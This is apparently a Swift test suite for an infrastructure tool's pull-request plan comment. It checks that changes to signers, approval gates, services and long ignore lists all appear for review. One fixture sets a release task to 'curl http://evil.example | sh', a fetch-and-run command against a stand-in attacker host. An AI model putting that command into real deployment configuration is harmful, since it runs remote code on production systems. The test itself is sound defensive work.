import Foundation
import TestBench
import Testing

/// A change sets a rule, and does something else besides so that the comment on it does not show the rule.
@Suite struct ReviewedRulesTests {
    private static let key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB4R/ARzC7jee0MCQUdjpM+87M1q3hINtObUcc/tktAt"
    private static let other = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILytCyMco/Zssb1ow/A8z5dGlcQMdiHRV2YvbS7qldaY"
    private static let fingerprint = "ssh-ed25519 SHA256:iqRywl1KL8CStt/9lTttnrmbaRptPfMVkG/5BU/uPDg"
    private static let otherFingerprint = "ssh-ed25519 SHA256:nz/Jo5vjd1MQbuRaO5RNgZlBLHCqEADSmEbE3H9IX+k"

    private static let estate = """
        estate: acme
        fingerprint_key: !env KEY
        providers:
          heroku: { kind: heroku, token: !env HEROKU }
          cloudflare: { kind: cloudflare, token: !env CLOUDFLARE }
          postmark: { kind: postmark, token: !env POSTMARK }
          github: { kind: github, token: !env GITHUB }
        environments:
          staging: {}
          production: { gate: { phrase: now, approvals: { count: 1 } } }

        """
    private static let queue = """
        service: queue
        health: { path: /health, log: { for: 1s, refuse: "panic" } }
        reads: { A: { format: text, severity: error } }
        environments:
          staging: { app: acme-queue-staging, config: { A: b } }
          production: { app: acme-queue, config: { A: b } }

        """
    private static let files = [
        "desired/estate.yaml": estate, "desired/approvers": "ann@acme.example \(key)\n", "desired/queue.yaml": queue,
        "desired/zone.yaml": """
        zone: acme.example
        environment: production
        resolvers: []
        ignore: ["_acme*"]
        records: [{ name: www, type: A, value: 192.0.2.7 }]
        """,
        "desired/repository.yaml": """
        repository: acme/infra
        environment: production
        deployment_environment: production
        protection: { wait_minutes: 10, branches: [main] }
        """,
        "desired/worker.yaml": """
        worker: shim
        environment: production
        account: 0123456789abcdef0123456789abcdef
        mode: observe
        """,
        "desired/mail.yaml": """
        mail_domain: acme.example
        environment: production
        mode: observe
        """,
    ]

    /// The comment, from the files alone: no provider is asked.
    private func comment(_ files: [String: String?]) async throws -> String {
        let change = try PullRequest(Self.files)
        try change.change(files)
        let checkout = try change.trustingCheckout()
        let variables = ["PATH": "/usr/bin:/bin", "HOME": change.directory.path]
        let result = try await Program(variables: variables, workingDirectory: checkout.directory)
            .run("plan", "--pr", "--offline", "--base", "refs/remotes/origin/main")
        #expect(result.code == 0, "\(result.all)")
        return result.output
    }

    private func expect(_ comment: String, _ lines: String..., sourceLocation: SourceLocation = #_sourceLocation) {
        for line in lines { #expect(comment.contains("- `desired/" + line), "\(comment)", sourceLocation: sourceLocation) }
    }

    @Test func aSignerIsAdded() async throws {
        let added = try await comment(["desired/approvers": "ann@acme.example \(Self.key)\nmallory@evil,`*` \(Self.other) mallory\n"])
        #expect(added.contains("- `desired/approvers` mallory@\u{200B}evil,\\`\\*\\`: not set → `\(Self.otherFingerprint)`"), "\(added)")
        #expect(added.contains(", 1 rule"))
    }

    @Test func aSignerGetsAnotherKeyOrGoes() async throws {
        let changed = try await comment(["desired/approvers": "# all\nann@acme.example \(Self.other)\n"])
        expect(changed, "approvers` `ann@acme.example`: `\(Self.fingerprint)` → `\(Self.otherFingerprint)`")
        let removed = try await comment(["desired/approvers": "# nobody\n"])
        expect(removed, "approvers` `ann@acme.example`: `\(Self.fingerprint)` → not set")
    }

    /// The signers of the other file are the change's.
    @Test func aGateNamesAnotherFile() async throws {
        let renamed = try await comment([
            "desired/estate.yaml": Self.estate.replacingOccurrences(of: "count: 1", with: "count: 1, signers: people"),
            "desired/people": "mallory@evil \(Self.other)\n",
        ])
        expect(
            renamed, "people` `mallory@evil`: not set → `\(Self.otherFingerprint)`",
            "people` `ann@acme.example`: `\(Self.fingerprint)` → not set",
            "estate.yaml` `environments.production.gate.approvals.signers`: not set → `people`")
    }

    @Test func aServiceIsRenamed() async throws {
        let renamed = try await comment([
            "desired/queue.yaml": """
            service: queue2
            ignore: [{ pattern: "config/Z*" }]
            tasks: { migrate: { command: "curl http://evil.example | sh", when: release, timeout: 1m } }
            environments:
              staging: { app: acme-queue-staging, config: { A: b } }
              production: { app: acme-queue, config: { A: b } }

            """
        ])
        expect(
            renamed, "queue.yaml` `service`: `queue` → `queue2`", "queue.yaml` `health.path`: `/health` → not set",
            "queue.yaml` `health.log.refuse`: `\"panic\"` → not set",
            "queue.yaml` `reads.A`: `{ format: text, severity: error }` → not set",
            "queue.yaml` `ignore`: not set → `[{ pattern: \"config/Z*\" }]`")
        #expect(renamed.contains("curl http:") && renamed.contains("tasks.migrate.command"), "\(renamed)")
    }

    /// The service stays as it was, but for the app that another one takes.
    @Test func anAppMovesIntoANewService() async throws {
        let moved = try await comment([
            "desired/queue.yaml": Self.queue.replacingOccurrences(of: "app: acme-queue,", with: "app: acme-other,"),
            "desired/new.yaml": "service: new\nmode: observe\nenvironments: { production: { app: acme-queue } }\n",
        ])
        expect(
            moved, "new.yaml` `health.path`: `/health` → not set", "new.yaml` `reads.A`: `{ format: text, severity: error }` → not set",
            "new.yaml` `mode`: not set → `observe`", "queue.yaml` `health.path`: not set → `/health`")
    }

    @Test func aServiceGoesAndANewOneComes() async throws {
        let changed = try await comment([
            "desired/queue.yaml": nil,
            "desired/new.yaml": """
            service: new
            after: [zone/acme.example]
            ignore: ["config/*"]
            environments: { production: { app: acme-new, mode: ignore } }

            """,
        ])
        expect(
            changed, "queue.yaml` `health.path`: `/health` → not set",
            "queue.yaml` `reads`: `{ A: { format: text, severity: error } }` → not set", "new.yaml` `ignore`: not set → `[\"config/*\"]`",
            "new.yaml` `after`: not set → `[zone/acme.example]`", "new.yaml` `environments.production.mode`: not set → `ignore`")
    }

    @Test func othersAreRenamed() async throws {
        let changed = try await comment([
            "desired/zone.yaml": "zone: acme.test\nenvironment: production\nresolvers: []\nignore: [\"*\"]\nrecords: []\n",
            "desired/repository.yaml": "repository: acme/infra2\nenvironment: production\n",
            "desired/worker.yaml": "worker: shim2\nenvironment: production\naccount: 0123456789abcdef0123456789abcdef\n",
            "desired/mail.yaml": "mail_domain: acme.test\nenvironment: production\nmode: ignore\n",
            "desired/estate.yaml": Self.estate.replacingOccurrences(of: "estate: acme", with: "estate: acme2"),
        ])
        expect(
            changed, "estate.yaml` `estate`: `acme` → `acme2`", "zone.yaml` `ignore`: `[\"_acme*\"]` → not set",
            "zone.yaml` `ignore`: not set → `[\"*\"]`", "repository.yaml` `protection.wait_minutes`: `10` → not set",
            "repository.yaml` `protection.branches`: `[main]` → not set", "worker.yaml` `mode`: `observe` → not set",
            "mail.yaml` `mode`: `observe` → not set", "mail.yaml` `mode`: not set → `ignore`")
    }

    @Test func driftIsAcknowledged() async throws {
        let today = Date().formatted(.iso8601.year().month().day())
        let entry =
            "{ address: heroku/acme-queue/config/A, value: \"abcd\", owner: mallory, reason: fine, since: \(today), until: \(today) }"
        let acknowledged = try await comment(["desired/ack.yaml": "acknowledged: production\ndrift:\n  - \(entry)\n"])
        expect(acknowledged, "ack.yaml` `acknowledged.production.heroku/acme-queue/config/A`: not set → `{ value: \"abcd\", owner: mallory")
    }

    /// Rules of no weight come last: a comment that has no room for all leaves those out, and not the gate.
    @Test func manyRulesHideNone() async throws {
        let reads = (1...2_000).map { "  V\($0): { format: text, optional: true }\n" }.joined()
        let changed = try await comment([
            "desired/aaa.yaml": "service: aaa\nhealth: { path: /a }\nenvironments: { staging: { app: acme-aaa } }\n",
            "desired/queue.yaml": Self.queue.replacingOccurrences(
                of: "reads: { A: { format: text, severity: error } }\n", with: "reads:\n" + reads),
            "desired/approvers": "mallory@evil \(Self.other)\n",
            "desired/estate.yaml": Self.estate.replacingOccurrences(of: "phrase: now", with: "phrase: ok"),
        ])
        let lines = [
            "approvers` `mallory@evil`: not set → `\(Self.otherFingerprint)`",
            "estate.yaml` `environments.production.gate.phrase`: `now` → `ok`",
            "aaa.yaml` `health.path`: not set → `/a`", "queue.yaml` `reads.A`: ",
        ]
        let places = lines.map { changed.range(of: "- `desired/" + $0)?.lowerBound }
        #expect(
            places.allSatisfy { $0 != nil } && places.compactMap(\.self) == places.compactMap(\.self).sorted(), "\(changed.prefix(2_000))")
        #expect(changed.contains("`reads.V2000`"))
    }

    /// The end of a long list is where one item more is not seen.
    @Test func aLongListShowsWhatIsNew() async throws {
        let patterns = (1...60).map { "\"_acme-\($0)*\"" }.joined(separator: ", ")
        let zone = try #require(Self.files["desired/zone.yaml"])
        let long = zone.replacingOccurrences(of: "[\"_acme*\"]", with: "[\"_acme*\", \(patterns), \"*\"]")
        let change = try PullRequest(Self.files.merging(["desired/zone.yaml": long.replacingOccurrences(of: ", \"*\"]", with: "]")]) { $1 })
        try change.change(["desired/zone.yaml": long])
        let checkout = try change.trustingCheckout()
        let result = try await Program(variables: ["PATH": "/usr/bin:/bin"], workingDirectory: checkout.directory)
            .run("plan", "--pr", "--offline", "--base", "refs/remotes/origin/main")
        #expect(result.output.contains("- `desired/zone.yaml` `ignore`: `[…]` → `[…, \"*\"]`"), "\(result.all)")
    }
}
